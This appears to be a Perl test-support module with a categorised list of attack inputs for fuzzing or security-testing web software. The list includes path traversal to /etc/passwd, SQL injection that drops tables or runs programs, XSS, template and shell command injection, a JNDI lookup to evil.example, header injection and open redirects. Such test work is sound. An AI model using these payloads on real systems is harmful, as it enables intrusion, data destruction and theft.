package Payloads;

# What attackers send, one a line, by what it is meant to break.  \r \n \t \0
# \xHH and \\ are the bytes that they are in C.
#
#	for my $payload (Payloads::of('sql', 'markup')) { ... }
#
# What would be computed, if anything here were ever run, is RESULT: it is in no
# payload, so an answer that has it has been made by one.

use strict;
use warnings;
use Carp qw(croak);

use constant RESULT => 1787 * 1931;

my $table = <<'END';
# traversal: out of a folder, to a file, to another route
../../../../../../etc/passwd
..%2f..%2f..%2fetc%2fpasswd
%2e%2e/%2e%2e/%2e%2e/etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
.%2e/.%2e/etc/passwd
%252e%252e%252f%252e%252e%252fetc%252fpasswd
%%32%65%%32%65/etc/passwd
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
%c0%2e%c0%2e%c0%afetc%c0%afpasswd
%e0%80%ae%e0%80%ae%e0%80%afetc
%uff0e%uff0e%u2215etc%u2215passwd
\xef\xbc\x8e\xef\xbc\x8e\xef\xbc\x8fetc\xef\xbc\x8fpasswd
..\\..\\..\\windows\\win.ini
..%5c..%5c..%5cwindows%5cwin.ini
..%255c..%255cwindows
..;/..;/etc/passwd
..%3b/..%3b/server-status
....//....//etc/passwd
..././..././etc/passwd
/etc/passwd%00.html
..%00/..%00/etc/passwd
file:///etc/passwd
/proc/self/environ
./././././public/../../site/apache/httpd.conf
.git/config
.htaccess
.env
site/login
~root
~www-data/.pgpass
cgi-bin/../../../bin/sh
%2f%2fetc%2fpasswd
public%2f..%2f..%2f..%2fcgi-bin%2fsite%2flogin
C:/boot.ini
# sql: quotes, comments, unions, stacked statements, PostgreSQL's own
'
''
"
';
\\'
' OR '1'='1
' OR 1=1 --
" OR ""="
') OR ('1'='1' --
admin'--
1 OR 1=1
1; SELECT pg_sleep(9)
'; SELECT pg_sleep(9); --
'||pg_sleep(9)||'
' UNION SELECT 1787*1931 --
' UNION ALL SELECT NULL, (1787*1931)::text, NULL, NULL --
' AND 1=CAST((SELECT version()) AS int) --
'||(SELECT (1787*1931)::text)||'
'; DROP TABLE messages; --
'; DELETE FROM users; --
'; UPDATE users SET username = 'owned'; --
'; INSERT INTO messages (author_id, text) VALUES (1, 'owned'); --
'; COPY users TO PROGRAM 'id'; --
$$; DROP TABLE users; $$
$1
E'\\047 OR 1=1 --
\xbf' OR 1=1 --
\xc2\xbf\x27 OR 1=1 --
' /*!50000OR*/ 1=1 #
%27%20OR%201=1--
U&'\\0027' OR 1=1
'||lo_import('/etc/passwd')||'
# markup: HTML, attributes, URLs, what ends an element early
<script>alert(1787*1931)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' autofocus onfocus='alert(1)
</textarea><script>alert(1)</script>
</title><svg/onload=alert(1)>
<a href="javascript:alert(1)">x</a>
javascript:alert(document.cookie)
data:text/html,<script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<scr\0ipt>alert(1)</scr\0ipt>
<style>@import'//evil.example/x.css';</style>
<meta http-equiv="refresh" content="0;url=//evil.example">
<base href="//evil.example/">
<form action="//evil.example"><input name="password">
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\xf0<script>alert(1)</script>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
</li></ul><h1>owned</h1>
# templates: what some engine would compute
{{1787*1931}}
${1787*1931}
#{1787*1931}
<%= 1787*1931 %>
*{1787*1931}
@(1787*1931)
{php}echo 1787*1931;{/php}
[[${1787*1931}]]
${jndi:ldap://evil.example/a}
${${lower:j}ndi:${lower:l}dap://evil.example/a}
<!--#exec cmd="id"-->
<!--#echo var="DOCUMENT_ROOT" -->
%{REMOTE_ADDR}e
# shell: a second command
;id
|id
`id`
$(id)
& id &
|| id
\nid\n
;expr 1787 \\* 1931;
$(expr 1787 \\* 1931)
() { :;}; echo; expr 1787 \\* 1931
--help
-i
;cat /etc/passwd
# queries: LDAP, XPath, documents
*)(uid=*))(|(uid=*
*)(&
admin)(!(&(1=0
' or '1'='1' or ''='
{"$gt": ""}
{"$where": "sleep(9000)"}
__proto__
constructor[prototype][owned]
true, $where: '1 == 1'
# headers: line ends that would begin another one
\r\nX-Owned: yes
\nX-Owned: yes
\rX-Owned: yes
%0d%0aX-Owned:%20yes
%0aX-Owned:%20yes
%0d%0a%0d%0a<html>owned</html>
%0d%0aSet-Cookie:%20session=owned
%0d%0aLocation:%20http://evil.example/
%250d%250aX-Owned:%20yes
%e5%98%8a%e5%98%8dX-Owned:%20yes
\xe5\x98\x8a\xe5\x98\x8dX-Owned: yes
\xc4\x8d\xc4\x8aX-Owned: yes
\xe2\x80\xa8X-Owned: yes
x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX-Owned: yes\r\n\r\n
\x0bX-Owned: yes
\x85X-Owned: yes
# formats: printf and its like
%s%s%s%s%s%s%s%s
%n%n%n%n
%x.%x.%x.%x.%x
%99999999d
%1$s%2$n
{0}{1}{2}
%p%p%p
# unicode: text that is odd, and bytes that are no text
\xe2\x80\xae\xe2\x80\xaeevil
\xe2\x80\x8b
\xe2\x80\x8bA\xe2\x80\x8dn\xe2\x81\xa0n
\xef\xbb\xbfAnn
A\xcc\x8ann
\xc5\xbf\xe2\x84\xaa
\xef\xbc\x9cscript\xef\xbc\x9e
\xef\xbf\xbe\xef\xbf\xbf
\xef\xb7\x90
\xf4\x8f\xbf\xbf
\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7
a\xcc\x80\xcc\x80\xcc\x80\xcc\x80\xcc\x80\xcc\x80\xcc\x80\xcc\x80\xcc\x80
\xd8\xa7\xd9\x84\xd8\xb3
\xef\xb7\xba
\xed\xa0\x80
\xed\xa0\xbd\xed\xb2\xa9
\xc0\x80
\xc1\x81
\xf4\x90\x80\x80
\xf8\x88\x80\x80\x80
\xff\xfe<\0s\0
\x80
\xe2\x82
A\0B
\x1b[31mred\x1b[0m
\x7f
\x08\x08\x08Ann
\xc2\x85
# numbers: at every limit, and what only looks like one
0
-1
-0
2147483647
2147483648
4294967296
9223372036854775807
9223372036854775808
-9223372036854775808
-9223372036854775809
18446744073709551616
99999999999999999999999999999999999999999999
1e309
1e3
0x10
010
0b1
1_000
1,000
1.0
 1
+1
NaN
Infinity
\xd9\xa1\xd9\xa2
null
true
[]
# redirects: another site
//evil.example
///evil.example
////evil.example/%2e%2e
/\\evil.example
\\\\evil.example
/%5cevil.example
%2f%2fevil.example
https:evil.example
https:/evil.example
https://evil.example
http://evil.example/%0d%0aX-Owned:%20yes
//evil.example@127.0.0.1
http://127.0.0.1@evil.example/
//evil%E3%80%82example
/%09/evil.example
\t//evil.example
/.evil.example
javascript:alert(1)//
//[::1]/
http:///evil.example
%68ttps://evil.example
?//evil.example
END

my %payloads;
my $kind;
for (split /\n/, $table) {
	if (/^# (\w+): /) {
		$kind = $1;
		next;
	}
	my %byte = (r => "\r", n => "\n", t => "\t", 0 => "\0", '\\' => '\\');
	s/\\(?:x([0-9a-f]{2})|([rnt0\\]))/defined $1 ? chr hex $1 : $byte{$2}/ge;
	push @{ $payloads{$kind} }, $_;
}

sub kinds { return sort keys %payloads }

# Those of some kinds; of all, if none is named.
sub of {
	return map { @{ $payloads{$_} // croak "no payloads: $_" } }
	    @_ ? @_ : kinds();
}

1;
